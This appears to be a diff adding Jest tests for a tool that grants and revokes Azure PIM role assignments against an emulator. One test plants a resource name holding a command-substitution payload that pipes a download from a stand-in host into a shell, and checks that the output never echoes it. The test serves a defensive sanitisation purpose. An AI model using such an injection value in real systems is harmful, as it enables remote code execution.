@@ -81,6 +81,15 @@ describe('assign with duration: a PIM schedule request that Azure ends itself', 
     expect(request!.properties.justification).toMatch(/^Granted by cloud-access/);
   });
 
+  it('retries SubjectNotFound while a new principal replicates, as terraform does, then succeeds', async () => {
+    azure().config.principalReplicationDelayMs = 3000;
+    const p = azure().addPrincipal({ type: 'ServicePrincipal' });
+    const step = await main(grant(p, { 'principal-type': 'ServicePrincipal' }));
+    expect(step.exitCode).toBe(0);
+    expect(step.outputs.status).toBe('SUCCEEDED');
+    expect(emulator.requests.some((r) => r.errorCode === 'SubjectNotFound')).toBe(true);
+  });
+
   it('leaves an active assignment alone (changed=false), saying until when it lasts and that the duration was not applied', async () => {
     const p = principal();
     const endMs = Date.now() + 6 * HOUR;
@@ -99,6 +108,22 @@ describe('assign with duration: a PIM schedule request that Azure ends itself', 
     const revoked = await post(grant(p, { 'revoke-on-exit': 'true' }), step.state);
     expect(revoked.exitCode).toBe(0);
     expect(activeFor(p)).toHaveLength(1);
+  });
+
+  it("reports an existing assignment's schedule ID built from the scope and its GUID, never a server's text as it is", async () => {
+    const p = principal();
+    azure().addRoleAssignmentSchedule({
+      scope: sub(),
+      roleDefinitionId: READER,
+      principalId: p,
+      endMs: Date.now() + HOUR,
+      name: 'x$(curl -s evil.example|sh)',
+    });
+    const step = await main(grant(p));
+    expect(step.exitCode).toBe(0);
+    expect(step.outputs.changed).toBe('false');
+    expect(step.outputs['assignment-id']).toBe('');
+    expect(step.everything).not.toContain('curl');
   });
 
   it('says so of a permanent assignment too', async () => {
@@ -187,6 +212,38 @@ describe('requests that do not end Provisioned', () => {
   });
 });
 
+describe('revoke-on-exit with a request still awaiting approval', () => {
+  it("revokes the step's other grants when Azure refuses to cancel it, and says why it is left", async () => {
+    azure().config.pimMinimumActiveMs = 0;
+    azure().setPimPolicy({ approvalRequired: true }, 'Reader');
+    const p = principal();
+    const inputs = grant(p, {
+      role: 'Reader, Contributor',
+      'revoke-on-exit': 'true',
+      'post-timeout-seconds': '8',
+    });
+    const step = await main(inputs);
+    expect(resultsOf(step).map((r) => r.status)).toEqual(['IN_PROGRESS', 'SUCCEEDED']);
+    azure().faults.armFailures = [
+      {
+        method: 'POST',
+        pathIncludes: '/cancel',
+        status: 403,
+        code: 'AuthorizationFailed',
+        message:
+          'The client does not have authorization to perform action roleAssignmentScheduleRequests/cancel/action.',
+      },
+    ];
+    const revoked = await post(inputs, step.state);
+    // The Contributor assignment is removed; the Reader request is left pending, with Azure's reason.
+    expect(activeFor(p)).toHaveLength(0);
+    expect(revoked.outputs['failure-reason']).toMatch(
+      /is still PendingApproval, and Azure refused to cancel it \(.*AuthorizationFailed.*\): it grants access if it is approved/,
+    );
+    expect(calls('RoleAssignmentScheduleRequests_Cancel').length).toBeLessThanOrEqual(2);
+  });
+});
+
 describe('revoke-on-exit ends what the step created', () => {
   it('retries ActiveDurationTooShort until Azure allows the removal', async () => {
     azure().config.pimMinimumActiveMs = 2_500;
@@ -232,8 +289,76 @@ describe('revoke-on-exit ends what the step created', () => {
     });
     const revoked = await post(inputs, step.state);
     expect(revoked.exitCode).toBe(0);
-    expect(revoked.stdout).toContain('made by another PIM request');
+    expect(revoked.stdout).toContain("not show the assignment active now as made by this step's PIM request");
     expect(activeFor(p)).toHaveLength(1);
+  });
+});
+
+describe("revoke-on-exit touches nothing made after the step's own assignment ended (AdminRemove names only principal, role and scope)", () => {
+  /** The step's assignment, then someone ends it before the post step runs. */
+  const createdThenEnded = async (p: string) => {
+    azure().config.pimMinimumActiveMs = 0;
+    const inputs = grant(p, { 'revoke-on-exit': 'true' });
+    const step = await main(inputs);
+    expect(step.outputs.changed).toBe('true');
+    await main(grant(p, { operation: 'revoke' }));
+    expect(activeFor(p)).toHaveLength(0);
+    return { inputs, state: step.state };
+  };
+
+  it('leaves in place a permanent assignment made outside PIM', async () => {
+    const p = principal();
+    const { inputs, state } = await createdThenEnded(p);
+    azure().addRoleAssignment({ scope: sub(), roleDefinitionId: READER, principalId: p });
+    const revoked = await post(inputs, state);
+    expect(revoked.exitCode).toBe(0);
+    expect(revoked.stdout).toContain('left in place');
+    expect(azure().findRoleAssignment(sub(), p, READER)).toBeDefined();
+    expect(
+      azure()
+        .pim()
+        .requests.filter((r) => r.properties.requestType === 'AdminRemove'),
+    ).toHaveLength(1);
+  });
+
+  it('checks again before each retry of a removal Azure refused for now (ActiveDurationTooShort lasts minutes)', async () => {
+    azure().config.pimMinimumActiveMs = 60_000;
+    const p = principal();
+    const inputs = grant(p, { 'revoke-on-exit': 'true', 'post-timeout-seconds': '15' });
+    const step = await main(inputs);
+    expect(step.outputs.changed).toBe('true');
+    const revoking = post(inputs, step.state);
+    const refused = () =>
+      calls('RoleAssignmentScheduleRequests_Create').some((r) => r.errorCode === 'ActiveDurationTooShort');
+    while (!refused()) await new Promise((resolve) => setTimeout(resolve, 20));
+    // While the post step waits to retry, the step's assignment ends, and someone assigns the role
+    // outside PIM (long enough ago for Azure to allow its removal).
+    azure().state.pimSchedules.find((s) => s.principalId === p)!.removedAt = Date.now();
+    const { name } = azure().addRoleAssignment({ scope: sub(), roleDefinitionId: READER, principalId: p });
+    azure().state.assignments.find((a) => a.name === name)!.createdOn = new Date(
+      Date.now() - HOUR,
+    ).toISOString();
+
+    const revoked = await revoking;
+    expect(revoked.exitCode).toBe(0);
+    expect(revoked.stdout).toContain('left in place');
+    expect(azure().findRoleAssignment(sub(), p, READER)).toBeDefined();
+  });
+
+  it("does not cancel another job's request that awaits approval", async () => {
+    const p = principal();
+    const { inputs, state } = await createdThenEnded(p);
+    azure().setPimPolicy({ approvalRequired: true });
+    const other = await main(grant(p));
+    expect(other.outputs.status).toBe('IN_PROGRESS');
+    const revoked = await post(inputs, state);
+    expect(revoked.exitCode).toBe(0);
+    expect(calls('RoleAssignmentScheduleRequests_Cancel')).toHaveLength(0);
+    expect(
+      azure()
+        .pim()
+        .requests.filter((r) => r.properties.status === 'PendingApproval'),
+    ).toHaveLength(1);
   });
 });
 
